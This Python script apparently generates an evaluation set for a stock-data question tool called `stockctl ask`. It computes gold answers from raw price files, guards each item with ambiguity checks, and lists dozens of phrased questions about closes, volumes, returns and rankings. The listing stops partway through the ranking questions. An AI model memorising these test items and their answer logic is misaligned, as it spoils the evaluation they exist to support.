#!/usr/bin/env python3
"""blind-7: questions for `stockctl ask` and their gold answers.

Written blind: only FORMAT.md, three sections of dev-e/README.md, the intraday README and the raw data files were
read. Every gold answer is computed here from the raw files (standard library only). Any failed ambiguity check
stops the run before questions.jsonl is written.
"""
import csv, datetime as dt, hashlib, json, math, os, re, sys
from pathlib import Path

HERE = Path(__file__).resolve().parent
REPO = HERE.parents[2]
DATA = Path(os.environ.get('ASK_EVAL_DATA') or (REPO.parent / 'shared' / 'data'))
OUT = HERE / 'questions.jsonl'

STOCKS = ['AAPL', 'AMD', 'AMZN', 'FB', 'GOOGL', 'IBM', 'INTC', 'JPM', 'KO', 'MSFT', 'NFLX', 'NVDA', 'TSLA']
ETFS = ['INDA', 'FXY', 'DBB']
TODAY = '2025-07-08'


class CheckFailed(Exception):
    pass


def check(cond, msg):
    if not cond:
        raise CheckFailed(msg)


# ---------------------------------------------------------------- time zone (US rules since 2007), own code
def _nth_sunday(y, m, n):
    d = dt.date(y, m, 1)
    d += dt.timedelta(days=(6 - d.weekday()) % 7)
    return d + dt.timedelta(weeks=n - 1)


def utc_to_ny(t):
    start = dt.datetime.combine(_nth_sunday(t.year, 3, 2), dt.time(7))   # 02:00 EST
    end = dt.datetime.combine(_nth_sunday(t.year, 11, 1), dt.time(6))    # 02:00 EDT
    return t - dt.timedelta(hours=4 if start <= t < end else 5)


# ---------------------------------------------------------------- loading
def load():
    daily, minutes = {}, {}
    for s in STOCKS:
        rows = []
        with open(DATA / 'stocks' / (s.lower() + '.us.txt'), newline='') as f:
            r = csv.reader(f)
            check(next(r)[:6] == ['Date', 'Open', 'High', 'Low', 'Close', 'Volume'], s + ' header')
            for rec in r:
                if not rec:
                    continue
                d, o, h, l, c, v = rec[:6]
                rows.append((d, float(o), float(h), float(l), float(c), float(v)))
        rows.sort()
        check(len({b[0] for b in rows}) == len(rows), s + ' duplicate dates')
        daily[s] = rows
    found = set()
    for fn in sorted(os.listdir(DATA / 'intraday')):
        if not fn.endswith('.csv'):
            continue
        s = fn.split('_')[0]
        check(s in ETFS, 'unexpected intraday file ' + fn)
        found.add(s)
        bars = []
        with open(DATA / 'intraday' / fn, newline='') as f:
            r = csv.reader(f)
            check(next(r)[:6] == ['timestamp', 'open', 'high', 'low', 'close', 'volume'], fn + ' header')
            for rec in r:
                if not rec:
                    continue
                ts, o, h, l, c, v = rec[:6]
                t = utc_to_ny(dt.datetime.strptime(ts, '%Y-%m-%d %H:%M:%S'))
                bars.append((t.strftime('%Y-%m-%d %H:%M'), float(o), float(h), float(l), float(c), float(v)))
        bars.sort()
        check(len({b[0] for b in bars}) == len(bars), s + ' duplicate minutes')
        minutes[s] = bars
        days = []
        for b in bars:
            d = b[0][:10]
            if days and days[-1][0] == d:
                x = days[-1]
                days[-1] = (d, x[1], max(x[2], b[2]), min(x[3], b[3]), b[4], x[5] + b[5])
            else:
                days.append((d,) + b[1:])
        daily[s] = days
    check(found == set(ETFS), 'missing intraday files')
    return daily, minutes


D, M = load()
IDX = {s: {b[0]: i for i, b in enumerate(rows)} for s, rows in D.items()}
SYMS = STOCKS + ETFS
check(max(b[0] for s in ETFS for b in D[s]) == TODAY, 'data end is not ' + TODAY)

FIELDS = {'open': 1, 'high': 2, 'low': 3, 'close': 4, 'volume': 5}


def fv(b, f):
    if f == 'range':
        return b[2] - b[3]
    return b[FIELDS[f]]


def tol(a):
    """the scorer's tolerance for a number (FORMAT.md)"""
    return max(0.001 * abs(a), 0.01 if abs(a) >= 1 else 0.0001)


def distinct(a, b, k=2.0):
    """a and b cannot be confused by the scorer, with a safety factor k"""
    return abs(a - b) > k * max(tol(a), tol(b))


def same(a, b):
    """a and b are accepted for each other by the scorer"""
    return abs(a - b) <= min(tol(a), tol(b))


def has(s, d):
    return d in IDX[s]


def idx(s, d):
    check(d in IDX[s], f'{s} has no bar on {d}')
    return IDX[s][d]


def bar(s, d):
    return D[s][idx(s, d)]


def ib(s, d):
    """index of the last session of s on or before d"""
    rows = D[s]
    lo, hi = 0, len(rows)
    while lo < hi:
        mid = (lo + hi) // 2
        if rows[mid][0] <= d:
            lo = mid + 1
        else:
            hi = mid
    check(lo > 0, f'{s}: nothing on or before {d}')
    return lo - 1


def window(s, d1, d2, min_n=1):
    w = [b for b in D[s] if d1 <= b[0] <= d2]
    check(len(w) >= min_n, f'{s}: {len(w)} sessions in {d1}..{d2}, want {min_n}')
    return w


def ret_at(s, i):
    check(i > 0, f'{s}: no previous session')
    return D[s][i][4] / D[s][i - 1][4] - 1


def rets(s, d1, d2, first=True):
    """daily returns of the sessions in d1..d2; first=False drops the window's first session"""
    w = window(s, d1, d2, 2)
    out = [(b[0], ret_at(s, idx(s, b[0]))) for b in w if idx(s, b[0]) > 0]
    if not first and out[0][0] == w[0][0]:
        out = out[1:]
    return out


def sessions_gap_check(s, d1, d2):
    """no hole of more than 6 calendar days in the window or just before it (INDA has one)"""
    i0 = ib(s, d1)
    if D[s][i0][0] == d1 and i0 > 0:
        i0 -= 1
    w = [b[0] for b in D[s][i0:] if b[0] <= d2]
    for a, b in zip(w, w[1:]):
        gap_days = (dt.date.fromisoformat(b) - dt.date.fromisoformat(a)).days
        check(gap_days <= 6, f'{s}: hole {a}..{b}')


def fmt(x):
    if isinstance(x, bool):
        raise CheckFailed('bool cell')
    if isinstance(x, (int, float)):
        check(math.isfinite(x), 'non-finite')
        r = round(float(x), 8)
        if r == int(r) and abs(r) < 1e15:
            return int(r)
        return r
    return x


def gold(rows, match, exact):
    return {'rows': [[fmt(c) for c in r] for r in rows], 'match': match, 'exact_rows': exact}


def first_row(*cells):
    return gold([list(cells)], 'first', False)


# ---------------------------------------------------------------- gold computations by kind
def g_latest(s, n, fields, asof=None, within=None):
    if within:
        rows = window(s, within[0], within[1])
    else:
        rows = D[s][:ib(s, asof or TODAY) + 1]
    check(len(rows) >= n, 'not enough rows')
    rows = rows[-n:]
    return gold([[b[0]] + [fv(b, f) for f in fields] for b in rows], 'set', True)


def regular_bar(s, d):
    bars = [b for b in M[s] if b[0][:10] == d and '09:30' <= b[0][11:] <= '15:59']
    check(bars, f'{s} no regular-session minutes on {d}')
    return (d, bars[0][1], max(b[2] for b in bars), min(b[3] for b in bars), bars[-1][4], sum(b[5] for b in bars))


def etf_robust(s, d, fields):
    """an ETF price on d reads the same from the regular session as from all minutes (FORMAT's daily bar)"""
    if s not in ETFS:
        return
    for f in fields:
        a, b = fv(bar(s, d), f), fv(regular_bar(s, d), f)
        check(same(a, b), f'{s} {d} {f}: all-minute {a} vs regular-session {b}')


def prev_date(s, d):
    i = idx(s, d)
    check(i > 0, 'no previous session')
    return D[s][i - 1][0]


def g_day(s, d, field):
    if field != 'volume':
        etf_robust(s, d, [field] if field != 'range' else ['high', 'low'])
    return first_row(d, fv(bar(s, d), field))


def g_rows(s, d1, d2, fields, n=None):
    w = window(s, d1, d2)
    check(w[0][0] == d1 and w[-1][0] == d2, 'window ends must be sessions')
    if n is not None:
        check(len(w) == n, f'expected {n} rows, got {len(w)}')
    return gold([[b[0]] + [fv(b, f) for f in fields] for b in w], 'set', True)


def g_agg(s, d1, d2, field, op, min_n=5, robust_ends=False):
    w = window(s, d1, d2, min_n)

    def calc(ws):
        xs = [fv(b, field) for b in ws]
        return {'avg': sum(xs) / len(xs), 'sum': sum(xs), 'max': max(xs), 'min': min(xs)}[op]
    v = calc(w)
    if robust_ends:  # "between" read exclusively gives the same answer
        check(same(v, calc(w[1:-1])), 'aggregate depends on inclusive/exclusive ends')
    return first_row(v)


def g_extreme(s, d1, d2, field, op, min_n=5):
    w = window(s, d1, d2, min_n)
    xs = sorted(((fv(b, field), b[0]) for b in w), reverse=(op == 'max'))
    check(distinct(xs[0][0], xs[1][0]), f'extreme not unique: {xs[:2]}')
    return first_row(xs[0][1], xs[0][0])


def hi52(s, d, back):
    start = (dt.date.fromisoformat(d) - dt.timedelta(days=back)).isoformat()
    w = [b for b in D[s] if start <= b[0] <= d]
    return max(b[2] for b in w), min(b[3] for b in w)


def g_52w(s, d, which):
    check(has(s, d), '52w date must be a session')
    a, b = hi52(s, d, 364), hi52(s, d, 365)
    check(a == b, '52-week window length matters')
    check(D[s][0][0] <= (dt.date.fromisoformat(d) - dt.timedelta(days=365)).isoformat(), 'less than a year of data')
    hi, lo = a
    return {'high': first_row(hi), 'low': first_row(lo), 'range': first_row(lo, hi)}[which]


def change(s, d1, d2):
    return D[s][ib(s, d2)][4] / D[s][ib(s, d1)][4] - 1


def g_change(s, d1, d2, sessions=True):
    if sessions:
        idx(s, d1), idx(s, d2)
    return first_row(change(s, d1, d2))


def g_ret(s, d):
    etf_robust(s, d, ['close'])
    if s in ETFS:
        etf_robust(s, prev_date(s, d), ['close'])
    return first_row(d, ret_at(s, idx(s, d)))


def g_gap(s, d):
    etf_robust(s, d, ['open'])
    if s in ETFS:
        etf_robust(s, prev_date(s, d), ['close'])
    i = idx(s, d)
    check(i > 0, 'no previous session')
    return first_row(d, D[s][i][1] / D[s][i - 1][4] - 1)


def g_bigmove(s, d1, d2, mode):
    sessions_gap_check(s, d1, d2)

    def pick(first):
        rs = rets(s, d1, d2, first)
        key = {'up': lambda x: x[1], 'down': lambda x: -x[1], 'abs': lambda x: abs(x[1])}[mode]
        rs = sorted(rs, key=key, reverse=True)
        check(distinct(key(rs[0]), key(rs[1])), 'biggest move not unique')
        return rs[0]
    a, b = pick(True), pick(False)
    check(a == b, 'biggest move depends on the first session')
    if mode == 'abs':
        check(a[1] > 0, 'abs winner negative: sign would be ambiguous')
    if mode == 'up':
        check(a[1] > 0, 'no gain')
    if mode == 'down':
        check(a[1] < 0, 'no loss')
    return first_row(a[0], a[1])


def metric_on(s, d, metric):
    i = idx(s, d)
    b = D[s][i]
    if metric == 'return':
        return ret_at(s, i)
    if metric == 'gap':
        check(i > 0, 'no previous')
        return b[1] / D[s][i - 1][4] - 1
    return fv(b, metric)


def ranked(rows, n, desc, label):
    rows = sorted(rows, key=lambda r: r[1], reverse=desc)
    check(len(rows) >= n, f'{label}: universe too small')
    for a, b in zip(rows[:n], rows[1:n + 1]):
        check(distinct(a[1], b[1]), f'{label}: tie near rank {a} {b}')
    return rows[:n]


def g_rank(d, metric, n, desc, singular=False, expect_universe=None):
    uni = [s for s in SYMS if has(s, d)]
    if expect_universe is not None:
        check(len(uni) == expect_universe, f'universe on {d} is {len(uni)}')
    rows = [[s, metric_on(s, d, metric)] for s in uni]
    top = ranked(rows, n, desc, f'rank {d}')
    return gold(top, 'first', False) if singular else gold(top, 'ordered', True)


def g_gainers(d1, d2, n, desc, singular=False, expect_universe=None):
    uni = [s for s in SYMS if has(s, d1) and has(s, d2)]
    if expect_universe is not None:
        check(len(uni) == expect_universe, f'universe {d1}..{d2} is {len(uni)}')
    rows = [[s, change(s, d1, d2)] for s in uni]
    top = ranked(rows, n, desc, f'gainers {d1}..{d2}')
    return gold(top, 'first', False) if singular else gold(top, 'ordered', True)


def g_named(values, mode, higher=True):
    """values: [[sym, v], ...]; mode 'which' (winner first, ordered) or 'compare' (set)"""
    check(distinct(values[0][1], values[1][1]), 'named comparison too close')
    if mode == 'which':
        rows = sorted(values, key=lambda r: r[1], reverse=higher)
        return gold(rows, 'ordered', True)
    return gold(values, 'set', True)


def period_value(s, d1, d2, what):
    w = window(s, d1, d2)
    if what == 'avg_close':
        return sum(b[4] for b in w) / len(w)
    if what == 'avg_volume':
        return sum(b[5] for b in w) / len(w)
    if what == 'avg_range':
        return sum(b[2] - b[3] for b in w) / len(w)
    if what == 'sum_volume':
        return sum(b[5] for b in w)
    if what == 'max_high':
        return max(b[2] for b in w)
    if what == 'min_low':
        return min(b[3] for b in w)
    if what == 'last_close':
        return w[-1][4]
    raise CheckFailed('unknown period value ' + what)


def g_grouped(s, periods, what, n):
    check(len(periods) == n, 'period count')
    return gold([[period_value(s, a, b, what)] for a, b in periods], 'ordered', True)


def g_pop(s, later, earlier, what):
    a = period_value(s, *later, what)
    b = period_value(s, *earlier, what)
    return first_row(a, b, a / b - 1)


def ma_series(s, n):
    """dict date -> n-session MA of closes (n=1: the close)"""
    rows = D[s]
    return {b[0]: sum(x[4] for x in rows[i - n + 1:i + 1]) / n for i, b in enumerate(rows) if i >= n - 1}


def g_ma(s, d, n):
    i = idx(s, d)
    check(i >= n - 1, 'MA undefined')
    return first_row(d, sum(b[4] for b in D[s][i - n + 1:i + 1]) / n)


def crossings(s, fast, slow, direction):
    f, sl = ma_series(s, fast), ma_series(s, slow)
    ds = [b[0] for b in D[s] if b[0] in f and b[0] in sl]
    out = []
    for a, b in zip(ds, ds[1:]):
        fa, sa, fb, sb = f[a], sl[a], f[b], sl[b]
        up = fa < sa and fb > sb
        dn = fa > sa and fb < sb
        if (direction == 'above' and up) or (direction == 'below' and dn):
            out.append(b)
    return out, f, sl, ds


def g_cross(s, fast, slow, direction, lo=None, hi=None, pick='first', strict_lo=True, strict_hi=True, unique=False):
    out, f, sl, ds = crossings(s, fast, slow, direction)
    lo_ok = (lambda d: d > lo) if strict_lo else (lambda d: d >= lo)
    hi_ok = (lambda d: d < hi) if strict_hi else (lambda d: d <= hi)
    cand = [d for d in out if (lo is None or lo_ok(d)) and (hi is None or hi_ok(d))]
    check(cand, f'{s}: no crossing in range')
    if lo is not None and strict_lo:
        check(lo not in out, 'the bound itself is a crossing day')
    if hi is not None and strict_hi:
        check(hi not in out, 'the bound itself is a crossing day')
    if unique:
        check(len(cand) == 1, f'crossing not unique: {cand}')
    d = cand[0] if pick == 'first' else cand[-1]
    # no tie between the series anywhere near the crossing
    k = ds.index(d)
    for x in ds[max(0, k - 10):k + 10]:
        check(abs(f[x] - sl[x]) > 1e-9 * abs(sl[x]), 'series tie near crossing')
    # no exact tie anywhere in the searched range, so a >= / <= reading finds the same days
    for x in ds:
        if (lo is None or x >= lo) and (hi is None or x <= hi):
            check(f[x] != sl[x], 'series tie in range')
    return first_row(d)


def g_count(s, d1, d2, pred_kind, thr, min_n=5):
    """pred_kind: close_above, close_below, volume_above, ret_below (thr negative), ret_above, absret_above, up"""
    w = window(s, d1, d2, min_n)
    if pred_kind.startswith('ret') or pred_kind.startswith('absret') or pred_kind == 'up':
        sessions_gap_check(s, d1, d2)
        vals = {'first': [r for _, r in rets(s, d1, d2, True)], 'nofirst': [r for _, r in rets(s, d1, d2, False)]}
    else:
        f = {'close_above': 'close', 'close_below': 'close', 'volume_above': 'volume'}[pred_kind]
        vals = {'first': [fv(b, f) for b in w]}

    def cnt(xs, strict):
        if pred_kind in ('close_above', 'volume_above', 'ret_above', 'up'):
            return sum(1 for x in xs if (x > thr if strict else x >= thr))
        if pred_kind in ('close_below', 'ret_below'):
            return sum(1 for x in xs if (x < thr if strict else x <= thr))
        if pred_kind == 'absret_above':
            return sum(1 for x in xs if (abs(x) > thr if strict else abs(x) >= thr))
    c = cnt(vals['first'], True)
    check(c == cnt(vals['first'], False), 'threshold tie')
    # values sitting within display rounding of the threshold would make the count fragile
    for x in vals['first']:
        y = abs(x) if pred_kind == 'absret_above' else x
        check(abs(y - thr) > 1e-6 * max(1.0, abs(thr)), f'value {x} too close to threshold {thr}')
    if 'nofirst' in vals:
        check(c == cnt(vals['nofirst'], True), 'count depends on first session')
    check(c > 0, 'zero count')
    return first_row(c)


def g_crosscount(d, pred_kind, thr, expect_universe=None):
    uni = [s for s in SYMS if has(s, d)]
    if expect_universe is not None:
        check(len(uni) == expect_universe, f'universe {len(uni)}')
    c = 0
    for s in uni:
        if pred_kind == 'up':
            x = metric_on(s, d, 'return'); ok = x > 0; check(x != 0, 'flat symbol')
        elif pred_kind == 'down':
            x = metric_on(s, d, 'return'); ok = x < 0; check(x != 0, 'flat symbol')
        elif pred_kind == 'ret_below':
            x = metric_on(s, d, 'return'); ok = x < thr
        elif pred_kind == 'gap_up':
            x = metric_on(s, d, 'gap'); ok = x > 0; check(x != 0, 'zero gap')
        elif pred_kind == 'close_above':
            x = metric_on(s, d, 'close'); ok = x > thr
        elif pred_kind == 'volume_above':
            x = metric_on(s, d, 'volume'); ok = x > thr
        else:
            raise CheckFailed(pred_kind)
        if thr is not None:
            check(abs(x - thr) > 1e-4 * max(1.0, abs(thr)), f'{s} too close to threshold')
        c += ok
    return first_row(c)


def g_vol(s, d1, d2, min_n=15):
    sessions_gap_check(s, d1, d2)
    a = stdev([r for _, r in rets(s, d1, d2, True)])
    b = stdev([r for _, r in rets(s, d1, d2, False)])
    check(min_n <= len(rets(s, d1, d2)), 'too few returns')
    check(same(a, b), f'volatility depends on first session: {a} {b}')
    return first_row(a)


def stdev(xs):
    n = len(xs)
    mu = sum(xs) / n
    return math.sqrt(sum((x - mu) ** 2 for x in xs) / (n - 1))


def pearson(xs, ys):
    n = len(xs)
    mx, my = sum(xs) / n, sum(ys) / n
    sxy = sum((x - mx) * (y - my) for x, y in zip(xs, ys))
    sxx = sum((x - mx) ** 2 for x in xs)
    syy = sum((y - my) ** 2 for y in ys)
    return sxy / math.sqrt(sxx * syy)


def corr(a, b, d1, d2, first):
    ra, rb = dict(rets(a, d1, d2, first)), dict(rets(b, d1, d2, first))
    common = sorted(set(ra) & set(rb))
    check(len(common) >= 15, 'too few common dates')
    return pearson([ra[d] for d in common], [rb[d] for d in common])


def g_corr(a, b, d1, d2):
    sessions_gap_check(a, d1, d2)
    sessions_gap_check(b, d1, d2)
    x, y = corr(a, b, d1, d2, True), corr(a, b, d1, d2, False)
    check(same(x, y), f'correlation depends on first session: {x} {y}')
    return first_row(x)


def g_streak(s, d1, d2, direction, min_len=3):
    sessions_gap_check(s, d1, d2)
    rs = rets(s, d1, d2, True)
    runs = []
    cur = []
    for d, r in rs:
        if (r > 0 if direction == 'up' else r < 0):
            cur.append(d)
        else:
            if cur:
                runs.append(cur)
            cur = []
    if cur:
        runs.append(cur)
    runs.sort(key=len, reverse=True)
    check(len(runs[0]) >= min_len, 'streak too short')
    check(len(runs) == 1 or len(runs[0]) > len(runs[1]), 'longest streak not unique')
    best = runs[0]
    check(best[0] != rs[0][0] and best[-1] != rs[-1][0], 'streak touches window edge')
    return first_row(len(best), best[0], best[-1])


def regular(bars):
    return [b for b in bars if '09:30' <= b[0][11:] <= '15:59']


def vwap(bars):
    check(bars and sum(b[5] for b in bars) > 0, 'no volume for vwap')
    return sum(b[4] * b[5] for b in bars) / sum(b[5] for b in bars)


def g_vwap_day(s, d):
    bars = [b for b in M[s] if b[0][:10] == d]
    check(len(bars) >= 10, 'too few minutes')
    v = vwap(bars)
    check(abs(vwap(regular(bars)) / v - 1) < 0.001, 'day VWAP depends on extended hours')
    return first_row(v)


def g_vwap_window(s, d, t1, t2, both_ways=False):
    bars = [b for b in M[s] if d + ' ' + t1 <= b[0] <= d + ' ' + t2]
    check(len(bars) >= 5, 'too few minutes in window')
    v = vwap(bars)
    if both_ways:
        ex = [b for b in bars if b[0] != d + ' ' + t2]
        check(same(v, vwap(ex)), 'window VWAP depends on the end minute')
    return first_row(v)


def g_minute_rows(s, d, t1, t2, fields, n=None):
    bars = [b for b in M[s] if d + ' ' + t1 <= b[0] <= d + ' ' + t2]
    check(bars, 'no minute bars')
    if n is not None:
        check(len(bars) == n, f'expected {n} minute bars, got {len(bars)}')
    return gold([[b[0]] + [fv(b, f) for f in fields] for b in bars], 'set', True)


def g_candle(s, d1, d2, fields=('open', 'high', 'low', 'close', 'volume')):
    w = window(s, d1, d2, 2)
    c = {'open': w[0][1], 'high': max(b[2] for b in w), 'low': min(b[3] for b in w), 'close': w[-1][4],
         'volume': sum(b[5] for b in w)}
    return first_row(*[c[f] for f in fields])


def g_dist(s, d):
    i = idx(s, d)
    peak = max(b[4] for b in D[s][:i + 1])
    v = D[s][i][4] / peak - 1
    check(distinct(v, 0.0), 'at the high')
    return first_row(d, v)


def month(y, m):
    last = (dt.date(y + (m == 12), m % 12 + 1, 1) - dt.timedelta(days=1)).day
    return (f'{y}-{m:02d}-01', f'{y}-{m:02d}-{last:02d}')


def quarter(y, q):
    return (month(y, 3 * q - 2)[0], month(y, 3 * q)[1])


def year(y):
    return (f'{y}-01-01', f'{y}-12-31')


def week_of(d):
    x = dt.date.fromisoformat(d)
    mon = x - dt.timedelta(days=x.weekday())
    return (mon.isoformat(), (mon + dt.timedelta(days=4)).isoformat())


# ---------------------------------------------------------------- the questions
Q = []


def A(kind, question, fn, *args, **kw):
    Q.append(('a', kind, question, (fn, args, kw)))


def R(kind, question):
    Q.append(('r', kind, question, None))


# latest rows
A('latest-rows', "show me FXY's last 5 closing prices", g_latest, 'FXY', 5, ['close'])
A('latest-rows', 'dbb volume, most recent 3 sessions', g_latest, 'DBB', 3, ['volume'])
A('latest-rows', 'What were the open, high, low and close of the India ETF (INDA) on each of its three most recent trading days?',
  g_latest, 'INDA', 3, ['open', 'high', 'low', 'close'])
A('latest-rows', "Could you pull the yen trust's daily highs and lows for the latest 7 sessions?", g_latest, 'FXY', 7, ['high', 'low'])
A('latest-rows', 'Pull the 5 most recent closes for IBM as of 2014-10-17.', g_latest, 'IBM', 5, ['close'], asof='2014-10-17')
A('latest-rows', 'nvda close + volume for the last 3 trading days up to and including March 3rd, 2015',
  g_latest, 'NVDA', 3, ['close', 'volume'], asof='2015-03-03')
A('latest-rows', 'For Tesla, list the final four sessions of 2013 with their closing prices.', g_latest, 'TSLA', 4, ['close'],
  within=year(2013))
A('latest-rows', 'what did amazon close at on each of its last 3 trading days in june 2009', g_latest, 'AMZN', 3, ['close'],
  within=month(2009, 6))

# day value
A('day-value', "What was AMD's closing price on 8/23/2017?", g_day, 'AMD', '2017-08-23', 'close')
A('day-value', 'Big Blue volume on 19/10/2012', g_day, 'IBM', '2012-10-19', 'volume')
A('day-value', 'how high did netflix trade on March 12th, 2015?', g_day, 'NFLX', '2015-03-12', 'high')
A('day-value', 'JPM opening price, 2009-03-10', g_day, 'JPM', '2009-03-10', 'open')
A('day-value', "What was Intel's intraday range (high minus low) on Nov 2, 2011?", g_day, 'INTC', '2011-11-02', 'range')
A('day-value', "FXY close yesterday?", g_day, 'FXY', '2025-07-07', 'close')
A('day-value', 'Total daily volume in DBB on 2024-11-06, please.', g_day, 'DBB', '2024-11-06', 'volume')
A('day-value', "india etf's low on may 8 2025", g_day, 'INDA', '2025-05-08', 'low')

# date-range rows
A('date-range-rows', 'KO closes from 2013-05-06 through 2013-05-10', g_rows, 'KO', '2013-05-06', '2013-05-10', ['close'], n=5)
A('date-range-rows', "I'd like Microsoft's open and close for every session from 9/14/2016 to 9/20/2016.",
  g_rows, 'MSFT', '2016-09-14', '2016-09-20', ['open', 'close'], n=5)
A('date-range-rows', 'Facebook daily high and low for the week of July 21, 2014', g_rows, 'FB', *week_of('2014-07-21'), ['high', 'low'], n=5)
A('date-range-rows', 'amzn daily volumes 2008-10-06 thru 2008-10-10', g_rows, 'AMZN', '2008-10-06', '2008-10-10', ['volume'], n=5)
A('date-range-rows', 'Tesla OHLC for each day from 14 Nov 2016 to 18 Nov 2016', g_rows, 'TSLA', '2016-11-14', '2016-11-18',
  ['open', 'high', 'low', 'close'], n=5)
A('date-range-rows', 'DBB closing prices June 2 to June 6, 2025', g_rows, 'DBB', '2025-06-02', '2025-06-06', ['close'], n=5)
A('date-range-rows', 'List INDA volume for each session in the first week of March 2025.', g_rows, 'INDA', '2025-03-03', '2025-03-07',
  ['volume'], n=5)
A('date-range-rows', 'fxy highs 2024-08-01 through 2024-08-09', g_rows, 'FXY', '2024-08-01', '2024-08-09', ['high'], n=7)

# window aggregate
A('window-aggregate', "hey quick one: what was Apple's average closing price in Q3 2012?", g_agg, 'AAPL', *quarter(2012, 3), 'close', 'avg')
A('window-aggregate', 'total googl volume during march 2014', g_agg, 'GOOGL', *month(2014, 3), 'volume', 'sum')
A('window-aggregate', 'Highest close JPMorgan reached in the second half of 2011?', g_agg, 'JPM', '2011-07-01', '2011-12-31', 'close', 'max')
A('window-aggregate', 'mean daily volume for nvidia, jan 2016', g_agg, 'NVDA', *month(2016, 1), 'volume', 'avg')
A('window-aggregate', "What's the lowest price IBM traded at between 2015-08-17 and 2015-08-28?", g_agg, 'IBM', '2015-08-17', '2015-08-28',
  'low', 'min', robust_ends=True)
A('window-aggregate', 'avg close of FXY lsat month', g_agg, 'FXY', *month(2025, 6), 'close', 'avg')
A('window-aggregate', 'How many DBB shares have traded in total so far this year?', g_agg, 'DBB', '2025-01-01', TODAY, 'volume', 'sum')
A('window-aggregate', "Facebook's average daily trading range (high − low) in May 2014", g_agg, 'FB', *month(2014, 5), 'range', 'avg')

# extreme day
A('extreme-day', 'On which day in 2015 did Netflix have its heaviest trading volume?', g_extreme, 'NFLX', *year(2015), 'volume', 'max')
A('extreme-day', "Which session had Coca-Cola's lowest close in the first half of 2009?", g_extreme, 'KO', '2009-01-01', '2009-06-30', 'close', 'min')
A('extreme-day', 'Busiest day for FXY by volume in 2024?', g_extreme, 'FXY', *year(2024), 'volume', 'max')
A('extreme-day', "AMZN: date of the widest daily high-low range in October 2014?", g_extreme, 'AMZN', *month(2014, 10), 'range', 'max')
A('extreme-day', "Intel's quietest day by volume during 2016 - which date was it?", g_extreme, 'INTC', *year(2016), 'volume', 'min')
A('extreme-day', 'which day last quarter had the highest DBB close?', g_extreme, 'DBB', *quarter(2025, 2), 'close', 'max')
A('extreme-day', 'What date did Tesla post its highest close of 2014?', g_extreme, 'TSLA', *year(2014), 'close', 'max')
A('extreme-day', 'What day did INDA hit its lowest low in March 2025?', g_extreme, 'INDA', *month(2025, 3), 'low', 'min')

# 52-week
A('52-week', 'AAPL 52-week high as of 2013-06-28', g_52w, 'AAPL', '2013-06-28', 'high')
A('52-week', "What was JPM's 52 wk low on 17 March 2009?", g_52w, 'JPM', '2009-03-17', 'low')
A('52-week', 'Give me the 52-week range for Tesla on 2016-02-10.', g_52w, 'TSLA', '2016-02-10', 'range')
A('52-week', "Coca-Cola's 52-week high on Dec 30, 2010?", g_52w, 'KO', '2010-12-30', 'high')
A('52-week', 'fb 52w low as of 9/27/2013', g_52w, 'FB', '2013-09-27', 'low')
A('52-week', 'AMD 52-week low, as of the close on August 14, 2015', g_52w, 'AMD', '2015-08-14', 'low')
A('52-week', "What's the 52-week high for DBB today?", g_52w, 'DBB', TODAY, 'high')
A('52-week', 'FXY 52 week range as of 2024-12-31', g_52w, 'FXY', '2024-12-31', 'range')

# change between
A('change-between', 'How much did Nvidia gain from the 2016-01-04 close to the 2016-12-30 close?', g_change, 'NVDA', '2016-01-04', '2016-12-30')
A('change-between', '% change in IBM between June 1, 2012 and June 1, 2013', g_change, 'IBM', '2012-06-01', '2013-06-01', sessions=False)
A('change-between', 'price change for Google from 3/14/2008 to 9/15/2008, as a percentage', g_change, 'GOOGL', '2008-03-14', '2008-09-15')
A('change-between', "Amazon's return between 1 Jan 2015 and 31 Dec 2015?", g_change, 'AMZN', '2015-01-01', '2015-12-31', sessions=False)
A('change-between', 'how much did msft move from Jul 15th 2010 to Oct 15th 2010', g_change, 'MSFT', '2010-07-15', '2010-10-15')
A('change-between', 'FXY percent change from the 2024 year-end close to the latest close', g_change, 'FXY', '2024-12-31', TODAY)
A('change-between', 'How much has DBB changed since the close on April 8 2025?', g_change, 'DBB', '2025-04-08', TODAY)
A('change-between', 'INDA change between the 2025-02-14 close and the 2025-05-15 close', g_change, 'INDA', '2025-02-14', '2025-05-15')

# daily return or gap
A('daily-return-or-gap', "What was Tesla's daily return on 2017-08-03?", g_ret, 'TSLA', '2017-08-03')
A('daily-return-or-gap', 'Did JPM gap up or down at the open on 1/22/2009, and by how much?', g_gap, 'JPM', '2009-01-22')
A('daily-return-or-gap', 'apple one-day % move on 10/24/2008', g_ret, 'AAPL', '2008-10-24')
A('daily-return-or-gap', 'What was the overnight gap for Netflix on 2016-07-19?', g_gap, 'NFLX', '2016-07-19')
A('daily-return-or-gap', "Coke's return on the session of 23 Sept 2008", g_ret, 'KO', '2008-09-23')
A('daily-return-or-gap', "By how much did AMD open above or below the prior close on January 20, 2017?", g_gap, 'AMD', '2017-01-20')
A('daily-return-or-gap', 'fxy return today', g_ret, 'FXY', TODAY)
A('daily-return-or-gap', "DBB's opening gap on 2024-12-19", g_gap, 'DBB', '2024-12-19')
A('daily-return-or-gap', "What was the India ETF's daily % change on March 21, 2025?", g_ret, 'INDA', '2025-03-21')

# biggest move day
A('biggest-move-day', 'Biggest one-day drop for Facebook in 2016?', g_bigmove, 'FB', *year(2016), 'down')
A('biggest-move-day', "Which day in 2014 had Intel's largest daily gain?", g_bigmove, 'INTC', *year(2014), 'up')
A('biggest-move-day', "what was coke's biggest single-day move, up or down, during 2013", g_bigmove, 'KO', *year(2013), 'abs')
A('biggest-move-day', 'amzn largest daily gain in Q1 2009', g_bigmove, 'AMZN', *quarter(2009, 1), 'up')
A('biggest-move-day', 'What was the worst daily return for GOOGL over 2010, and when?', g_bigmove, 'GOOGL', *year(2010), 'down')
A('biggest-move-day', 'FXY: biggest single-day rise in 2024', g_bigmove, 'FXY', *year(2024), 'up')
A('biggest-move-day', 'worst day for DBB this year?', g_bigmove, 'DBB', '2025-01-01', TODAY, 'down')
A('biggest-move-day', 'Largest daily decline for the India ETF from March through May 2025?', g_bigmove, 'INDA', '2025-03-01', '2025-05-31', 'down')

# cross-sectional ranking
A('cross-sectional-ranking', 'Which 3 stocks had the highest volume on 2015-07-17?', g_rank, '2015-07-17', 'volume', 3, True, expect_universe=13)
A('cross-sectional-ranking', 'top 4 performers on 2016-11-14 by daily return', g_rank, '2016-11-14', 'return', 4, True, expect_universe=13)
A('cross-sectional-ranking', 'Which stock had the worst return on Oct 15, 2008?', g_rank, '2008-10-15', 'return', 1, False, singular=True, expect_universe=11)
